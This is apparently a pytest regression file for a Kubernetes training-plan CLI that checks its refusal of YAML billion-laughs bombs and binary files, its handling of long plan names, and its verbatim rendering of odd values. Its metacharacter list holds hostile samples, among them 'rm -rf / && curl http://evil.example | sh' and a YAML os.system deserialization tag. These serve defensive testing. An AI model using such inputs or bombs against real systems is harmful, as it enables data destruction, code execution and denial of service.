"""What held under attack in the security review, kept as tests: the command line and the
pure rendering.

- YAML bombs (billion laughs) and binary files given to `trainplan plan` are refused at
  once with one clear line each and exit 2, never a traceback, wherever the bomb sits
  (a document whose aliases expand to more than 100,000 values, or a key that is not a
  plain value, is refused before anything is built).
- Plan names of up to 253 characters render valid object names, labels, selectors and
  host names everywhere.
- Spec values full of YAML and shell metacharacters render into exactly themselves:
  nothing splits, joins, expands or escapes them, in the objects or through
  `trainplan render`'s YAML.

Items of the review kept elsewhere: budgets, API faults, deletions, budget edits, hostile
metrics pages, restarts and per-plan state in `tests/integration/test_what_held.py`;
an operator restart mid-create in
`tests/integration/test_operator.py::test_restart_mid_way_creates_no_duplicates`; a
binary (PNG) file in `tests/unit/test_cli.py` (`not-yaml-binary`); Event names of
253-character plans in `tests/unit/test_events.py`.
"""

from __future__ import annotations

import gzip
import re
import subprocess
import sys
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result

from tests.rendered_examples import training_container
from trainplan.api import TrainingPlanSpec
from trainplan.cli.main import main
from trainplan.launcher import PlanRef, render_for
from trainplan.planner import Catalog, plan

CLI_ENV: dict[str, str | None] = {"COLUMNS": "200", "NO_COLOR": "1", "FORCE_COLOR": None}
QUICK_SECONDS = 5.0
"""A refusal takes well under this (it is one small file)."""

SPEC: dict[str, Any] = {
    "model": {"preset": "pythia-1b"},
    "data": {"tokens": 1e9},
    "batch": {"globalBatchSize": 64},
    "hardware": {"gpuType": "A100-SXM4-80GB", "gpusPerNode": 8},
    "objective": {"gpus": 16},
    "job": {"image": "registry.example/train:1.0"},
}
"""Pythia 1B on 16 A100s, two nodes: quick to plan."""


def invoke(args: Sequence[str]) -> tuple[Result, float]:
    """`trainplan ARGS` in-process, and how long it took; fails on any exception but a
    clean exit (a traceback)."""
    started = time.perf_counter()
    result = CliRunner(env=CLI_ENV).invoke(main, list(args))
    seconds = time.perf_counter() - started
    if result.exc_info is not None and result.exc_info[0] is not SystemExit:
        raise AssertionError(f"trainplan {args} raised {result.exception!r}")
    assert "Traceback" not in result.stdout + result.stderr
    return result, seconds


def resource(spec: dict[str, Any], name: str = "plan") -> dict[str, Any]:
    return {
        "apiVersion": "trainplan.dev/v1alpha1",
        "kind": "TrainingPlan",
        "metadata": {"name": name},
        "spec": spec,
    }


# --- YAML bombs and binary files ------------------------------------------------------------


def _laughs(indent: str = "", item: str = "") -> str:
    """Nine levels of nine aliases each: 9**9 (387 million) strings once expanded; as
    mapping entries (`a0: &a0 [...]`), or as list items with `item="- "`."""
    levels = ['["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    levels += ["[" + ", ".join([f"*a{level - 1}"] * 9) + "]" for level in range(1, 10)]
    return "".join(
        f"{indent}{item}&a{level} {flow}\n" if item else f"{indent}a{level}: &a{level} {flow}\n"
        for level, flow in enumerate(levels)
    )


def _spec_lines(indent: str = "  ") -> str:
    return "".join(
        f"{indent}{line}\n"
        for line in (
            "model: {preset: pythia-1b}",
            "data: {tokens: 1.0e9}",
            "batch: {globalBatchSize: 64}",
            "objective: {gpus: 8}",
        )
    )


BOMB_AT_THE_TOP = _laughs()
"""A bare spec of nothing but the anchors."""
BOMB_IN_THE_SPEC = (
    "apiVersion: trainplan.dev/v1alpha1\nkind: TrainingPlan\nmetadata: {name: laughs}\n"
    "spec:\n" + _spec_lines() + "  job:\n    image: registry.example/train:1.0\n"
    "    env:\n" + _laughs("      ", item="- ")
)
"""The anchors as the spec's environment (a list the spec walks)."""
BOMB_EVERYWHERE = (
    "apiVersion: trainplan.dev/v1alpha1\nkind: TrainingPlan\n"
    "metadata:\n  name: laughs\n  laughs:\n" + _laughs("    ") + "status: *a9\n"
    "spec:\n" + _spec_lines() + "  job: {image: registry.example/train:1.0, args: *a9,"
    " nodeSelector: *a9}\n"
)
"""Defined in an unknown metadata field, used as the status, args and nodeSelector."""
BOMB_IN_METADATA = (
    "apiVersion: trainplan.dev/v1alpha1\nkind: TrainingPlan\n"
    "metadata:\n  name: laughs\n  laughs:\n"
    + _laughs("    ")
    + "spec:\n"
    + _spec_lines()
    + "  job: {image: registry.example/train:1.0}\n"
)
"""Defined in an unknown metadata field (kept as is, never validated) and used nowhere."""
BOMB_AS_A_KEY = _laughs("x-") + "? *a9\n: 1\n"
"""An expanded list as a mapping key."""

BOMBS = {
    "at-the-top": BOMB_AT_THE_TOP,
    "in-the-spec": BOMB_IN_THE_SPEC,
    "everywhere": BOMB_EVERYWHERE,
    "in-metadata": BOMB_IN_METADATA,
    "as-a-key": BOMB_AS_A_KEY,
}


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(BOMB_AT_THE_TOP, id="at-the-top"),
        pytest.param(BOMB_IN_THE_SPEC, id="in-the-spec"),
        pytest.param(BOMB_EVERYWHERE, id="everywhere"),
        pytest.param(BOMB_IN_METADATA, id="in-metadata"),
        pytest.param(BOMB_AS_A_KEY, id="as-a-key"),
    ],
)
def test_a_yaml_bomb_is_refused_at_once_with_exit_2(text: str, tmp_path: Path) -> None:
    path = tmp_path / "laughs.yaml"
    path.write_text(text, encoding="utf-8")

    result, seconds = invoke(["plan", str(path)])

    assert result.exit_code == 2, (result.stdout, result.stderr)
    assert seconds < QUICK_SECONDS
    lines = result.stderr.splitlines()
    assert lines
    assert all(line.startswith(f"{path}: ") for line in lines), lines
    assert len(result.stderr) < 4096  # one short line per problem, nothing expanded
    assert result.stdout == ""


def test_no_bomb_is_ever_expanded(tmp_path: Path) -> None:
    """Whatever a command makes of a bomb (refused or, in metadata, planned and
    rendered), it takes a moment and prints a few KiB: the aliases are never expanded."""
    for name, text in BOMBS.items():
        path = tmp_path / f"{name}.yaml"
        path.write_text(text, encoding="utf-8")
        for args in (["plan"], ["plan", "-o", "json"], ["plan", "-o", "yaml"], ["render"]):
            result, seconds = invoke([*args, str(path)])
            assert result.exit_code in (0, 2), (name, args, result.stderr)
            assert seconds < QUICK_SECONDS, (name, args)
            assert len(result.stdout) + len(result.stderr) < 64 * 1024, (name, args)
            assert "lol" not in result.stdout, (name, args)


TEXT_PROBLEMS = ("not a text file (UTF-8 expected)", "not YAML or JSON")
BINARIES: dict[str, bytes] = {
    "bytes": bytes((index * 151 + 7) % 256 for index in range(4096)),
    "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + b"\x03\x00\x3e\x00" * 64,
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
    "gzip": gzip.compress(("model: {preset: pythia-1b}\n" * 100).encode()),
    "utf-16": "model: {preset: pythia-1b}\n".encode("utf-16"),
    "nul-in-text": b"model: {preset: pythia-1b}\x00\n",
    "control-characters": b"model: \x1b[31m\x07\x08\n",
}


@pytest.mark.parametrize("data", BINARIES.values(), ids=BINARIES.keys())
def test_a_binary_file_is_refused_at_once_with_one_clear_line(data: bytes, tmp_path: Path) -> None:
    path = tmp_path / "plan.yaml"
    path.write_bytes(data)

    result, seconds = invoke(["plan", str(path)])

    assert result.exit_code == 2, result.stderr
    assert seconds < QUICK_SECONDS
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"{path}: ")
    assert any(problem in line for problem in TEXT_PROBLEMS), line
    assert len(line) < 300
    assert result.stdout == ""


def test_bombs_and_binaries_in_a_real_process_exit_2_without_a_traceback(tmp_path: Path) -> None:
    files = []
    for name, text in (("at-the-top", BOMB_AT_THE_TOP), ("everywhere", BOMB_EVERYWHERE)):
        files.append(tmp_path / f"{name}.yaml")
        files[-1].write_text(text, encoding="utf-8")
    for name in ("bytes", "nul-in-text"):
        files.append(tmp_path / f"{name}.yaml")
        files[-1].write_bytes(BINARIES[name])
    script = Path(sys.executable).parent / "trainplan"

    completed = subprocess.run(
        [str(script), "plan", *map(str, files)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )

    assert completed.returncode == 2, completed.stderr
    assert "Traceback" not in completed.stdout + completed.stderr
    assert completed.stdout == ""
    reported = {line.split(": ", 1)[0] for line in completed.stderr.splitlines()}
    assert reported == {str(path) for path in files}


# --- 253-character plan names ---------------------------------------------------------------

DNS_LABEL = re.compile(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?")
DNS_1035_LABEL = re.compile(r"[a-z]([-a-z0-9]*[a-z0-9])?")
QUALIFIED_NAME = re.compile(r"[A-Za-z0-9]([-A-Za-z0-9_.]*[A-Za-z0-9])?")
LONG_NAMES = [
    "a" * 253,
    ("x." * 126) + "y",
    "run-1." + "b" * 247,
    "0" * 252 + "9",
    ("segment-" * 40)[:252] + "z",
]


def _is_label(name: str) -> bool:
    return len(name) <= 63 and DNS_LABEL.fullmatch(name) is not None


def _is_subdomain(name: str) -> bool:
    return len(name) <= 253 and all(_is_label(part) for part in name.split("."))


def _is_label_key(key: str) -> bool:
    prefix, _, name = key.rpartition("/")
    return (not prefix or _is_subdomain(prefix)) and (
        len(name) <= 63 and QUALIFIED_NAME.fullmatch(name) is not None
    )


def _is_label_value(value: str) -> bool:
    return value == "" or (len(value) <= 63 and QUALIFIED_NAME.fullmatch(value) is not None)


def _label_maps(obj: Any, path: str = "") -> Iterator[tuple[str, dict[str, Any]]]:
    """Every labels, selector and matchLabels map in an object, by where it is."""
    if isinstance(obj, dict):
        for key, value in obj.items():
            where = f"{path}.{key}"
            if key in ("labels", "matchLabels") and isinstance(value, dict):
                yield where, value
            elif key == "selector" and isinstance(value, dict) and "matchLabels" not in value:
                yield where, value  # a Service's selector is a plain label map
            yield from _label_maps(value, where)
    elif isinstance(obj, list):
        for index, value in enumerate(obj):
            yield from _label_maps(value, f"{path}[{index}]")


def _rendered(name: str, **job: Any) -> list[dict[str, Any]]:
    spec = TrainingPlanSpec.model_validate({**SPEC, "job": {**SPEC["job"], **job}})
    return render_for(PlanRef(name, "team-a", "uid-1"), spec, _planned(spec), _CATALOG[0])


_CATALOG: list[Catalog] = []
_PLANS: dict[str, Any] = {}


def _planned(spec: TrainingPlanSpec) -> Any:
    key = spec.model_dump_json()
    if key not in _PLANS:
        _PLANS[key] = plan(spec, _CATALOG[0])
    return _PLANS[key]


@pytest.fixture(autouse=True)
def _remember_catalog(catalog: Catalog) -> None:
    if not _CATALOG:
        _CATALOG.append(catalog)


LAUNCHES: dict[str, dict[str, Any]] = {
    "job": {"launcher": "Job"},
    "jobset": {"launcher": "JobSet"},
    "deepspeed-job": {"framework": "deepspeed", "command": ["python", "train.py"]},
    "deepspeed-jobset": {
        "framework": "deepspeed",
        "command": ["python", "train.py"],
        "launcher": "JobSet",
    },
    "kueue": {"queueName": "q" * 63},
}


KINDS = {
    "job": ["Job", "Service"],
    "jobset": ["JobSet"],
    "deepspeed-job": ["ConfigMap", "Job", "Service"],
    "deepspeed-jobset": ["ConfigMap", "JobSet"],
    "kueue": ["Job", "Service"],
}


@pytest.mark.parametrize("launch", LAUNCHES)
@pytest.mark.parametrize("name", LONG_NAMES, ids=lambda n: n[:8])
def test_a_253_character_plan_name_renders_valid_names_and_labels(name: str, launch: str) -> None:
    assert len(name) == 253
    objects = _rendered(name, **LAUNCHES[launch])
    assert sorted(obj["kind"] for obj in objects) == KINDS[launch]

    checked = set()
    for obj in objects:
        meta = obj["metadata"]
        object_name = meta["name"]
        if obj["kind"] == "Service":
            assert len(object_name) <= 63, object_name
            assert DNS_1035_LABEL.fullmatch(object_name), object_name
        elif obj["kind"] in ("Job", "JobSet"):
            assert _is_label(object_name), object_name  # also the pods' job-name label
        else:
            assert _is_subdomain(object_name), object_name
        assert meta["ownerReferences"][0]["name"] == name
        for where, labels in _label_maps(obj):
            checked.add((obj["kind"], where))
            for key, value in labels.items():
                assert _is_label_key(key), (obj["kind"], where, key)
                assert isinstance(value, str), (where, key, value)
                assert _is_label_value(value), (where, key, value)
        for key in meta.get("annotations", {}):
            assert _is_label_key(key), key
    assert {(obj["kind"], ".metadata.labels") for obj in objects} <= checked
    if "Service" in KINDS[launch]:
        assert ("Service", ".spec.selector") in checked

    workload = next(obj for obj in objects if obj["kind"] in ("Job", "JobSet"))
    if workload["kind"] == "JobSet":
        (replicated,) = workload["spec"]["replicatedJobs"]
        job_spec = replicated["template"]["spec"]
        jobset = workload["metadata"]["name"]
        last_host = f"{jobset}-{replicated['name']}-0-{job_spec['completions'] - 1}"
    else:
        job_spec = workload["spec"]
        last_host = f"{workload['metadata']['name']}-{job_spec['completions'] - 1}"
        service = next(obj for obj in objects if obj["kind"] == "Service")
        assert job_spec["template"]["spec"]["subdomain"] == service["metadata"]["name"]
    assert _is_label(last_host), last_host
    assert DNS_1035_LABEL.fullmatch(last_host), last_host
    pod = job_spec["template"]["spec"]
    (container,) = pod["containers"]
    env = {entry["name"]: entry.get("value") for entry in container["env"]}
    assert env["TRAINPLAN_PLAN_NAME"] == name
    endpoint = next(arg for arg in container["args"] if arg.startswith("--rdzv-endpoint="))
    host = endpoint.split("=", 1)[1].rsplit(":", 1)[0]
    assert all(_is_label(part) for part in host.split(".")), host


# --- metacharacters in spec values ----------------------------------------------------------

METACHARACTERS = [
    "quotes \" and ' and `backticks`",
    "two\nlines\n",
    "$(SECRET) and $$(ESCAPED) and ${BRACED} and $HOME",
    "{{ .Values.password }} {% if x %}{{ 7*7 }}{% endif %}",
    "; rm -rf / && curl http://evil.example | sh #",
    "key: value\n- item\n---\n...\n",
    "# not a comment",
    "&anchor *alias !!python/object/apply:os.system ['id']",
    "back\\slash\ttab\r\n",
    "unicode \u2713 \u00fc \u2028 \u00a0 end",
    "   padded   ",
    "--rdzv-endpoint=evil:29500",
    "",
]


def _metachar_job(framework: str, launcher: str) -> dict[str, Any]:
    return {
        "image": 'registry.example/train:1.0"\ncommand: [sh, -c, "$(id)"]',
        "command": ["python", "train.py"],
        "args": list(METACHARACTERS),
        "env": [{"name": f"USER_{index}", "value": v} for index, v in enumerate(METACHARACTERS)],
        "nodeSelector": {"team": "$(x) {{ y }}\n'z'"},
        "framework": framework,
        "launcher": launcher,
    }


def _container(objects: list[dict[str, Any]]) -> dict[str, Any]:
    return training_container(objects)


def _node_selector(objects: list[dict[str, Any]]) -> dict[str, str]:
    workload = next(obj for obj in objects if obj["kind"] in ("Job", "JobSet"))
    if workload["kind"] == "JobSet":
        template = workload["spec"]["replicatedJobs"][0]["template"]["spec"]["template"]
    else:
        template = workload["spec"]["template"]
    return template["spec"]["nodeSelector"]  # type: ignore[no-any-return]


def _plain_job(framework: str, launcher: str) -> dict[str, Any]:
    """`_metachar_job` with plain words in place of every metacharacter value."""
    return {
        **_metachar_job(framework, launcher),
        "image": "registry.example/train:1.0",
        "args": [f"arg-{index}" for index in range(len(METACHARACTERS))],
        "env": [
            {"name": f"USER_{index}", "value": "plain"} for index in range(len(METACHARACTERS))
        ],
        "nodeSelector": {"team": "plain"},
    }


def _assert_verbatim(objects: list[dict[str, Any]], plain: list[dict[str, Any]]) -> None:
    """`objects` (rendered from `_metachar_job`) are `plain` (rendered from `_plain_job`)
    with the values put in as they were given: nothing split, joined, expanded, escaped
    or added."""
    job = _metachar_job("reference", "Job")
    container, plain_container = _container(objects), _container(plain)
    assert container["image"] == job["image"]
    plain_args: list[str] = plain_container["args"]
    start = plain_args.index("arg-0")
    end = start + len(METACHARACTERS)
    assert plain_args[start:end] == [f"arg-{index}" for index in range(len(METACHARACTERS))]
    assert container["args"] == [*plain_args[:start], *METACHARACTERS, *plain_args[end:]]
    values = dict(
        zip((f"USER_{i}" for i in range(len(METACHARACTERS))), METACHARACTERS, strict=True)
    )
    expected_env = [
        {**entry, "value": values[entry["name"]]} if entry["name"] in values else entry
        for entry in plain_container["env"]
    ]
    assert container["env"] == expected_env
    assert _node_selector(objects) == {**_node_selector(plain), "team": job["nodeSelector"]["team"]}
    assert {k: v for k, v in container.items() if k not in ("image", "args", "env")} == {
        k: v for k, v in plain_container.items() if k not in ("image", "args", "env")
    }


FRAMEWORKS = [("reference", "Job"), ("megatron", "Job"), ("deepspeed", "JobSet")]


@pytest.mark.parametrize(("framework", "launcher"), FRAMEWORKS)
def test_metacharacters_render_into_exactly_themselves(framework: str, launcher: str) -> None:
    objects = _rendered("meta", **_metachar_job(framework, launcher))
    _assert_verbatim(objects, _rendered("meta", **_plain_job(framework, launcher)))


def test_metacharacters_survive_trainplan_renders_yaml(tmp_path: Path) -> None:
    path = tmp_path / "meta.yaml"
    document = resource({**SPEC, "job": _metachar_job("reference", "Job")}, "meta")
    path.write_text(yaml.safe_dump(document, sort_keys=False), encoding="utf-8")
    plain = tmp_path / "plain.yaml"
    plain_document = resource({**SPEC, "job": _plain_job("reference", "Job")}, "meta")
    plain.write_text(yaml.safe_dump(plain_document), encoding="utf-8")

    rendered, _ = invoke(["render", str(path)])
    rendered_plain, _ = invoke(["render", str(plain)])

    assert rendered.exit_code == 0, rendered.stderr
    assert rendered_plain.exit_code == 0, rendered_plain.stderr
    objects = [d for d in yaml.safe_load_all(rendered.stdout) if d is not None]
    plain_objects = [d for d in yaml.safe_load_all(rendered_plain.stdout) if d is not None]
    assert [o["kind"] for o in objects] == [o["kind"] for o in plain_objects]
    _assert_verbatim(objects, plain_objects)
